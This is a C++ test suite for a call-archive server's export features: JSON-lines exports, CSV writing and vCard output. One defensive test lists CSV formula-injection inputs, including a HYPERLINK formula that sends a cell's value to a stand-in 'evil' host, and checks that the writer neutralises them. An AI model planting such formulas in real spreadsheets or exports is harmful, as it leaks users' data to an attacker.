#include "server/api/export_format.h"
#include "server/text/time_text.h"
#include "storage/sqlite/digest.h"
#include "tests/api/asking.h"

#include <gmock/gmock.h>

#include <sstream>

namespace callarchive::test {
namespace {

using nlohmann::json;

vector<string> lines_of(const string& text) {
  vector<string> lines;
  std::istringstream stream(text);
  for (string line; std::getline(stream, line);) lines.push_back(line);
  return lines;
}

class Export : public Asking {
 protected:
  void receive_message(int n, const string& content) {
    char id[16];
    std::snprintf(id, sizeof id, "msg_%04d", n);
    receive({{"topic", "SMS_RECEIVED"},
             {"data",
              {{"id", id},
               {"direction", n % 2 == 0 ? "INBOUND" : "OUTBOUND"},
               {"content", content},
               {"sent_at", format_instant(1'772'442'600'000 + n)},
               {"from_number", "+14155550100"},
               {"to_number", "+33184800000"}}}});
  }

  // An answer whose first page is read and not yet sent.
  http::Response begin(const string& path) {
    const auto route =
        std::find_if(routes().begin(), routes().end(), [&](const http::Route& each) { return each.pattern == path; });
    http::Request request;
    request.path = path;
    return route->handler(request);
  }
  static vector<string> rest_of(http::Response& begun) {
    string body;
    while (begun.stream(body)) {}
    return lines_of(body);
  }
};

TEST_F(Export, ManyPagesHaveEveryRowOnceBetweenManifestAndCompletion) {
  constexpr int kMessages = 1203;  // three pages
  for (int n = 0; n < kMessages; ++n) receive_message(n, "message " + std::to_string(n));
  const auto body = get("/v1/export/messages").body;
  const auto lines = lines_of(body);
  ASSERT_EQ(lines.size(), kMessages + 2u);
  EXPECT_EQ(json::parse(lines.front())["manifest"]["export"], "messages");
  vector<string> ids;
  for (std::size_t i = 1; i + 1 < lines.size(); ++i) ids.push_back(json::parse(lines[i])["id"]);
  std::sort(ids.begin(), ids.end());
  EXPECT_EQ(std::unique(ids.begin(), ids.end()), ids.end());
  EXPECT_EQ(ids.front(), "msg_0000");
  EXPECT_EQ(ids.back(), "msg_1202");

  const auto completion = json::parse(lines.back())["completion"];
  EXPECT_EQ(completion["rows"], kMessages);
  const auto before = std::string_view(body).substr(0, body.size() - lines.back().size() - 1);
  EXPECT_EQ(completion["sha256"], storage::sha256_hex(before));
}

TEST_F(Export, RowsAreThoseOfTheList) {
  for (int n = 0; n < 9; ++n) receive_message(n, "hello");
  const auto list = ask("/v1/messages?direction=outbound&limit=500");
  const auto lines = lines_of(get("/v1/export/messages?direction=outbound").body);
  ASSERT_EQ(lines.size(), list["data"].size() + 2);
  for (std::size_t i = 0; i < list["data"].size(); ++i) EXPECT_EQ(lines[i + 1], list["data"][i].dump());
}

TEST_F(Export, NothingIsStillAWholeFile) {
  const auto lines = lines_of(get("/v1/export/calls").body);
  ASSERT_EQ(lines.size(), 2u);
  EXPECT_EQ(json::parse(lines[1])["completion"]["rows"], 0);
  EXPECT_EQ(lines_of(get("/v1/export/calls?format=csv").body).size(), 1u);
  EXPECT_EQ(get("/v1/export/contacts?format=vcard").body, "");
}

TEST_F(Export, NoConnectionIsHeldBetweenPages) {
  for (int n = 0; n < 501; ++n) receive_message(n, "hello");
  vector<http::Response> begun;
  for (std::size_t i = 0; i < 3 * ArchiveOptions().readers; ++i) begun.push_back(begin("/v1/export/messages"));
  EXPECT_EQ(ask("/v1/messages?limit=1&timeout_ms=1000")["data"].size(), 1u);
  for (auto& response : begun) EXPECT_EQ(rest_of(response).size(), 503u);
}

TEST_F(Export, NamesTheNewestDeliveryOfItsBeginAndItsEnd) {
  const auto deliveries_of = [](const vector<string>& lines) {
    return std::pair(json::parse(lines.front())["manifest"].at("delivery"),
                     json::parse(lines.back())["completion"].at("delivery"));
  };
  EXPECT_EQ(deliveries_of(lines_of(get("/v1/export/messages").body)), std::pair(json(), json()));

  for (int n = 1; n < 502; ++n) receive_message(n, "hello");
  EXPECT_EQ(deliveries_of(lines_of(get("/v1/export/messages").body)), std::pair(json(501), json(501)));

  auto begun = begin("/v1/export/messages");
  receive_message(0, "older than all, and arrived behind them");
  const auto lines = rest_of(begun);
  EXPECT_EQ(lines.size(), 504u) << "it is in the file";
  EXPECT_EQ(deliveries_of(lines), std::pair(json(501), json(502))) << "which says so";
}

TEST_F(Export, OnlyContactsAreVcards) {
  EXPECT_EQ(refused("/v1/export/calls?format=vcard", 400), "invalid_parameter");
  EXPECT_EQ(refused("/v1/export/calls?limit=5", 400), "unknown_parameter");
  EXPECT_EQ(refused("/v1/export/calls?cursor=x", 400), "unknown_parameter");
}

TEST(Csv, QuotesWhatNeedsIt) {
  const api::CsvWriter csv;
  string text;
  csv.begin(text, {{"a"}, {"b, c"}});
  const std::pair<optional<string>, optional<string>> rows[] = {
      {"plain", "say \"hi\", please"}, {{}, ""}, {"two\r\nlines", " space"}, {"=1+1", "Café 😀"}, {"", {}}};
  for (const auto& [first, second] : rows) {
    for (const auto& field : {first, second}) {
      if (field) csv.text(text, *field);
      else csv.null(text);
    }
    api::CsvWriter::end_row(text);
  }
  csv.json(text, "-1.5");
  csv.json(text, R"(["x",{"y":null}])");
  api::CsvWriter::end_row(text);
  EXPECT_EQ(text,
            "a,\"b, c\"\r\n"
            "plain,\"say \"\"hi\"\", please\"\r\n"
            ",\"\"\r\n"
            "\"two\r\nlines\",\" space\"\r\n"
            "=1+1,Café 😀\r\n"
            "\"\",\r\n"
            "-1.5,\"[\"\"x\"\",{\"\"y\"\":null}]\"\r\n");
}

TEST(Csv, ForSpreadsheetsHasNoFormulas) {
  const api::CsvWriter csv({.for_spreadsheet = true});
  string header;
  csv.begin(header, {{"a"}});
  EXPECT_EQ(header,
            "\xEF\xBB\xBF"
            "a\r\n");
  const std::pair<const char*, const char*> rows[] = {
      {"=HYPERLINK(\"http://evil\"&A1)", "\"'=HYPERLINK(\"\"http://evil\"\"&A1)\","},
      {"+33612345678", "'+33612345678,"},
      {"-1", "'-1,"},
      {"@SUM(1+1)", "'@SUM(1+1),"},
      {"\t=1", "'\t'=1,"},
      {"\r=1", "\"'\r'=1\","},
      {"\n=1", "\"'\n'=1\","},
      {"a;=1", "a;'=1,"},  // where semicolons separate columns
      {"a; \"@b", "\"a;' \"\"@b\","},
      {"a\n- b", "\"a\n'- b\","},
      {"a;b;", "a;b;,"},
      {";", ";,"},
      {"1=1", "1=1,"},
      {"'=1", "'=1,"},
      {"", "\"\","},
  };
  for (const auto& [field, expected] : rows) {
    string text;
    csv.text(text, field);
    EXPECT_EQ(text, expected) << field;
  }
  string json;
  csv.json(json, "-1.5");
  csv.json(json, R"({"a":"b;=1"})");
  EXPECT_EQ(json, "-1.5,\"{\"\"a\"\":\"\"b;'=1\"\"}\",");
}

TEST(Csv, TellsTimesInTheZone) {
  constexpr Millis kSummer = 1'782'900'000'123;  // 2026-07-01T10:00:00.123Z
  constexpr Millis kBeforeZones = -3'000'000'000'000;
  const struct {
    Millis at;
    const char *zone, *plain, *for_spreadsheet;
  } rows[] = {
      {kSummer, "UTC", "2026-07-01T10:00:00.123Z,", "2026-07-01 10:00:00,"},
      {kSummer, "Europe/Paris", "2026-07-01T12:00:00.123+02:00,", "2026-07-01 12:00:00,"},
      {kSummer, "America/St_Johns", "2026-07-01T07:30:00.123-02:30,", "2026-07-01 07:30:00,"},
      {kBeforeZones, "Europe/Paris", "1874-12-07T18:40:00.000Z,", "1874-12-07 18:49:21,"},  // Paris was at +00:09:21
  };
  for (const auto& row : rows) {
    string text;
    api::CsvWriter({.time_zone = row.zone}).instant(text, row.at);
    EXPECT_EQ(text, row.plain);
    EXPECT_EQ(parse_instant(text.substr(0, text.size() - 1)), row.at) << row.plain << ": the same instant";
    text.clear();
    api::CsvWriter({.for_spreadsheet = true, .time_zone = row.zone}).instant(text, row.at);
    EXPECT_EQ(text, row.for_spreadsheet);
  }
}

TEST_F(Export, CsvIsForProgramsOrForSpreadsheets) {
  receive_message(0, "@SUM(1+1)");
  EXPECT_THAT(get("/v1/export/messages?format=csv").body, ::testing::HasSubstr("msg_0000,2026-03-02T09:10:00.000Z,"));
  EXPECT_THAT(get("/v1/export/messages?format=csv&tz=Asia/Tokyo").body,
              ::testing::HasSubstr("msg_0000,2026-03-02T18:10:00.000+09:00,INBOUND,,@SUM(1+1),+14155550100,"));
  const auto sheet = get("/v1/export/messages?format=csv&for=spreadsheet&tz=Asia/Tokyo").body;
  EXPECT_TRUE(sheet.starts_with("\xEF\xBB\xBFid,sent_at,"));
  EXPECT_THAT(sheet, ::testing::HasSubstr("msg_0000,2026-03-02 18:10:00,INBOUND,,'@SUM(1+1),'+14155550100,"));
  EXPECT_EQ(refused("/v1/export/messages?for=spreadsheet", 400), "invalid_parameter");
  EXPECT_EQ(refused("/v1/export/messages?format=csv&for=printers", 400), "invalid_parameter");
  EXPECT_EQ(refused("/v1/export/messages?format=csv&version=3.0", 400), "unknown_parameter");
  EXPECT_EQ(refused("/v1/export/contacts?format=csv&version=3.0", 400), "invalid_parameter");
  EXPECT_EQ(refused("/v1/export/contacts?format=vcard&version=2.1", 400), "invalid_parameter");
}

Contact contact_with(const std::function<void(Contact&)>& change) {
  Contact contact;
  contact.id = "con_1";
  contact.updated_at = 1'772'442'607'000;  // 2026-03-02T09:10:07Z
  change(contact);
  return contact;
}

string vcard_of(const std::function<void(Contact&)>& change, api::VcardVersion version = api::VcardVersion::v4) {
  const Contact contact = contact_with(change);
  string text;
  api::make_vcard(version)->row(text, std::cref(contact));
  return text;
}

TEST(Vcard, AlwaysHasAFormattedName) {
  const std::pair<std::function<void(Contact&)>, const char*> rows[] = {
      {[](Contact& it) { it.name = "Ada", it.last_name = "Moreau"; }, "FN:Ada Moreau\r\n"},
      {[](Contact& it) { it.last_name = "Moreau"; }, "FN:Moreau\r\n"},
      {[](Contact& it) {
         it.company = Company{{}, "Fils; Cie, SA\\"};
       },
       "FN:Fils\\; Cie\\, SA\\\\\r\n"},
      {[](Contact& it) { it.emails = {"a@b.c"}, it.numbers = {"+1415"}; }, "FN:+1415\r\n"},
      {[](Contact& it) { it.emails = {"a@b.c"}; }, "FN:a@b.c\r\n"},
      {[](Contact&) {}, "FN:con_1\r\n"},
      {[](Contact& it) { it.name = "two\nlines"; }, "FN:two\\nlines\r\n"},
  };
  for (const auto& [change, expected] : rows) EXPECT_THAT(vcard_of(change), ::testing::HasSubstr(expected));
}

TEST(Vcard, OfVersion3HasWhatThatVersionDemands) {
  const auto ada = [](Contact& it) {
    it.name = "Ada", it.last_name = "Moreau", it.emails = {"a@b.c"}, it.numbers = {"+14155550100"};
  };
  EXPECT_EQ(
      vcard_of(ada, api::VcardVersion::v3),
      "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:con_1\r\nFN:Ada Moreau\r\nN:Moreau;Ada;;;\r\n"
      "EMAIL;TYPE=INTERNET:a@b.c\r\nTEL;TYPE=VOICE:+14155550100\r\nREV:2026-03-02T09:10:07.000Z\r\nEND:VCARD\r\n");
  EXPECT_EQ(vcard_of(ada),
            "BEGIN:VCARD\r\nVERSION:4.0\r\nUID;VALUE=text:con_1\r\nFN:Ada Moreau\r\nN:Moreau;Ada;;;\r\n"
            "EMAIL:a@b.c\r\nTEL;VALUE=text:+14155550100\r\nREV:20260302T091007Z\r\nEND:VCARD\r\n");
  const auto nobody = [](Contact&) {};
  EXPECT_THAT(vcard_of(nobody, api::VcardVersion::v3), ::testing::HasSubstr("\r\nN:;;;;\r\n"));
  EXPECT_THAT(vcard_of(nobody), ::testing::Not(::testing::HasSubstr("\r\nN:")));
}

TEST(Vcard, HasNoControlCharacters) {
  const string card = vcard_of([](Contact& it) {
    it.name = string("A\0d\aa\x1b\x7f\t!", 9);
    it.last_name = "a\rb\r\nc\nd\n\re";
    it.emails = {"a\b@b.c"};
  });
  EXPECT_THAT(card, ::testing::HasSubstr("FN:Ada\t! a\\nb\\nc\\nd\\n\\ne\r\n"));
  EXPECT_THAT(card, ::testing::HasSubstr("EMAIL:a@b.c\r\n"));
}

TEST(Vcard, FoldsLongLinesBetweenCharacters) {
  string name;
  for (int i = 0; i < 100; ++i) name += i % 3 == 0 ? "😀" : "é";
  const string card = vcard_of([&](Contact& it) { it.name = name; });
  string unfolded;
  for (const auto& line : lines_of(card)) {
    EXPECT_LE(line.size(), 76u) << line;  // 75 and the '\r'
    EXPECT_NO_THROW(json(line).dump()) << "a character was cut";
    unfolded += line.starts_with(' ') ? line.substr(1, line.size() - 2) : "\n" + line.substr(0, line.size() - 1);
  }
  EXPECT_THAT(unfolded, ::testing::HasSubstr("FN:" + name + "\n"));
}

}  // namespace
}  // namespace callarchive::test
